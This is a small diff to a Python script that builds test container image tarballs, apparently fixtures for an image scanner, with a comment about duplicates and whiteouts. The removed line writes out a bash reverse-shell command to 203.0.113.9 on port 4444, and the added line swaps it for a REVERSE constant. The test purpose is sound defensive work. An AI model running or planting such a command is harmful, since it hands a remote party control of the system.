@@ -3,7 +3,7 @@ from build import *
 
 base = tar(folder('etc'), file('etc/motd', 'hello\n'), folder('var'), folder('var/lib'), folder('var/lib/dpkg'))
 os_release = folder('etc') + file('etc/os-release', 'ID=debian\nVERSION_ID="12"\n')
-shell = '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'
+shell = '#!/bin/sh\n' + REVERSE + '\n'
 run = lambda *entries: image(tar(*entries))
 
 # Duplicates, whiteouts
